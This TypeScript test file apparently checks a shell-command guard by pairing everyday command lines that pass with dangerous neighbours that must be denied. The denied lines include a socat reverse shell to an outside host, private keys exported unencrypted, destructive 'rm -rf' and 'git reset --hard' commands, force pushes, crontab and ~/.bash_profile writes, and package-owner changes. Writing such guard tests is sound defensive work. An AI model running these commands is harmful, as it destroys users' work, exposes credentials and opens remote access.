/**
 * False alarms a ninth gathering of everyday command lines found (everyday-unseen7.txt: community
 * cheat sheets), each with the dangerous neighbours the same rule must still deny — and the lines
 * it left stopped by design, each beside an everyday neighbour that passes.
 */
import { testHoles } from './context.ts';

const M = '#!axme pr=none repo=acme/app';

testHoles({
  // child-shell-folders.ts: a script another process runs (`bash -c`, `ssh host '…'`) ends in its own folder; `eval`'s moves the line
  'a cd in a script another process runs moves no later command': [
    ['ssh u@localhost "cd /var/www/Shared/; tar zcf - asset1 asset2" | tar zxf -', 'ssh u@localhost "ls" | (cd /var/www && tar zxf -)'],
    ['sh -c "cd /var/www" && tar zxf build/dist.tgz', 'cd /var/www && tar zxf build/dist.tgz'],
    ['bash -c "cd /etc && ls"; rm -rf build', 'eval "cd /etc"; rm -rf build'],
    ['watch "cd /etc && ls"; rm -rf build', 'builtin eval "cd /etc"; rm -rf build'],
    ['npx -c "cd /etc && ls" && rm -rf build', 'command eval "cd /etc" && rm -rf build'],
    ['bash -c "cd ~/.ssh && ls"; cat notes.txt', 'bash -c "cd ~/.ssh; cat id_rsa"'],
    ['ssh u@localhost "cd /var/www; ls"; rm -rf build', 'cd /etc && bash -c "cd /tmp" && rm -rf build'],
  ],
  // posix-bare-repeats.ts: a repeat with nothing before it, as GNU grep reads it (ignored in -E, a star in a basic pattern)
  "a grep pattern's repeat with nothing to repeat": [
    ['git branch --merged | egrep -v "(^*|main|dev)" | xargs git branch -d', 'git branch --merged | egrep -v "(*dev)" | xargs git branch -d'],
    ['git branch --merged | grep -Ev "+main|dev" | xargs git branch -d', 'git branch --merged | grep -Ev "+dev" | xargs git branch -d'],
    ['git branch --merged | grep -Ev "^*(main|master)" | xargs git branch -d', 'git branch --merged | grep -Pv "(^*|main)" | xargs git branch -d'],
    ['git branch --merged | grep -v "\\(*\\|main\\)" | xargs git branch -d', 'git branch --merged | grep -v "^*main" | xargs git branch -d'],
    ['git branch --merged | grep -Ev "(^+|main)" | xargs git branch -d', 'git branch --merged | grep -Ev "[*]|dev" | xargs git branch -d'],
    ['git branch | grep -E "*feat" | xargs git branch -d', 'git branch | grep -E "*ma" | xargs git branch -d'],
  ],
});

// Left stopped by design: the corpus's lines the guard stops for what they are in this context
// (they are not in everyday-unseen7.txt), each beside the everyday neighbour that passes.
testHoles({
  // the project's own rules: uncommitted work thrown away, untracked files deleted, a release tagged, hooks skipped, a force push
  "work thrown away, a release tagged, the project's hooks and push rules": [
    ['git reset --soft HEAD~2', 'git reset --hard HEAD~2'],
    ['git reset origin/feature/login', 'git reset --hard origin/feature/login'],
    ['git reset --soft HEAD~HEAD~1', 'git reset --hard HEAD~HEAD~1'],
    ['git reset $commit_id', 'git reset --hard $commit_id'],
    ['git clean -n -d', 'git clean -f -d'],
    ['git clean -n -d -x', 'git clean -f -d -x'],
    ['git clean -dxn', 'git clean -dxf'],
    ['git tag -l', 'git tag -a v1.2.0 HEAD~1 -m "HEAD~1"'],
    ['git tag -n', 'git tag -d v1.2.0'],
    ['git tag --list "v1.*"', "git tag -s v1.5 -m 'my signed 1.5 tag'"],
    [`git commit --amend --no-edit ${M}`, 'git commit --no-verify'],
    [`git push origin feature/login ${M}`, 'git push origin feature/login -f'],
    ["git rebase HEAD~1 --exec 'npm test'", "git rebase HEAD~1 --exec 'git commit --amend --no-edit -S'"],
    ["git rebase -r HEAD~1 --exec 'npm test'", "git rebase -r HEAD~1 --exec 'git commit --amend --no-edit --reset-author'"],
    [`git push origin feature/login --set-upstream ${M}`, 'git push origin $branchname --set-upstream'],
    [`git push origin --delete feature/login ${M}`, 'git push origin --delete :$branchname'],
    ['git remote add upstream http://localhost:8080', 'git remote add origin http://localhost:8080'],
    ['chmod 755 /tmp/your_shared_session', 'chmod 777 /tmp/your_shared_session'],
  ],
  // a private key opened (to convert it, check it, export it, hand it to a PaaS): the guard cannot tell which prints it. A key
  // handed to the tool that signs or logs in with it (`openssl req -key`, `x509 -signkey`, `http --cert-key`) is used, not read
  // (docs/safety.md, "Key files handed to the tool that uses them"): those corpus lines are back in everyday-unseen7.txt
  'a private key or key store opened': [
    ['http --verify=no https://example.org', 'http --cert=client.pem https://example.org'],
    ['openssl genrsa -out certs/dev.key 2048', 'openssl rsa -in certs/dev.key -out certs/dev.key'],
    ['openssl x509 -outform der -in certs/dev.crt -out build/dev.der', 'openssl x509 -outform der -in certs/dev.pem -out certs/dev.crt'],
    ['openssl req -text -noout -in certs/dev.csr', 'openssl pkcs12 -in certs/dev.p12 -out certs/dev.pem -nodes'],
    ['openssl x509 -in certs/dev.crt -noout -sha256 -fingerprint', 'openssl pkcs12 -in certs/dev.p12 -out certs/dev.pem -nodes -nocerts'],
    ['openssl x509 -in certs/dev.crt -noout -subject', 'openssl pkcs12 -in certs/dev.p12 -out certs/dev.pem -nodes -nokeys'],
    [
      'openssl x509 -in certs/dev.crt -noout -issuer',
      'openssl pkcs12 -export -out certs/dev.p12 -inkey certs/dev.key -in certs/dev.crt -certfile certs/dev.crt',
    ],
    ['openssl x509 -in certs/dev.crt -noout -dates', 'openssl rsa -in certs/dev.key -check'],
    ['openssl x509 -in certs/dev.crt -noout -serial', 'openssl pkcs12 -info -in certs/dev.p12'],
    ['openssl x509 -noout -modulus -in certs/dev.crt | openssl md5', 'openssl rsa -noout -modulus -in certs/dev.key | openssl md5'],
    [
      'keytool -list -v -keystore certs/dev.jks',
      'keytool -import -trustcacerts -file certs/dev.pem -alias myapp -keystore $JAVA_HOME/jre/lib/security/cacerts',
    ],
    ['deis certs:list', 'deis certs:add server.crt server.key'],
    ['rclone listremotes', 'rclone config show  # Display the current configuration'],
  ],
  // the user's keys, logins and shell: a key written into ~/.ssh, this machine's authorized_keys, a remote shell, the crontab, ~/.bash_profile
  "the user's keys, logins, jobs and shell": [
    ['ssh-keygen -t rsa -f build/id_test -N ""', 'ssh-keygen -t rsa'],
    ['ssh-keygen -t rsa -b 4096 -f build/id_test -N ""', 'ssh-keygen -t rsa -b 4096'],
    ['ssh-keygen -t ed25519-sk -f build/id_test', 'ssh-keygen -t ed25519-sk'],
    ['ssh-keygen -t rsa -b 4096 -C "$USER@$HOSTNAME" -f build/id_test -P devpass', 'ssh-keygen -t rsa -b 4096 -C "$USER@$HOSTNAME" -P devpass'],
    ['ssh-keygen -l -f build/id_test.pub', 'ssh-keygen -K'],
    ['ssh -p 2222 u@localhost', 'ssh-copy-id u@localhost'],
    ['ssh u@localhost -p 2222', 'ssh-copy-id u@localhost -p 2222'],
    ['socat TCP4-LISTEN:8266,fork,reuseaddr -', "socat exec:'bash -i',pty,stderr tcp:remote.butzel.info:3180"],
    ['crontab -l', 'echo "@reboot echo hi" | crontab'],
    ['echo \'export PATH="$HOME/.rbenv/bin:$PATH"\' >> build/env.sh', 'echo \'export PATH="$HOME/.rbenv/bin:$PATH"\' >> ~/.bash_profile'],
    ['echo \'eval "$(rbenv init -)"\'', 'echo \'eval "$(rbenv init -)"\' >> ~/.bash_profile'],
    ['for f in *.txt; do mv "$f" "${f%.txt}.md"; done', 'for f in *\' \'*; do mv "$f" "${f// /.}" 2>/dev/null; done'],
    ['cat $(fzf)', 'rm -rf $(fzf --multi)'],
  ],
  // publishing: who may publish a package, a version deprecated or withdrawn
  "a registry's publishers and versions changed": [
    ['npm owner ls lodash', 'npm owner add USERNAME PACKAGENAME'],
    ['npm view lodash deprecated', 'npm deprecate PACKAGE@"< 0.2.0" "critical bug fixed in v0.2.0"'],
    ['gem list --local', 'gem yank foogem -v 0.0.1    # Take it back'],
    ['gem owner foogem', 'gem owner foogem -a rico@ricostacruz.com'],
  ],
});
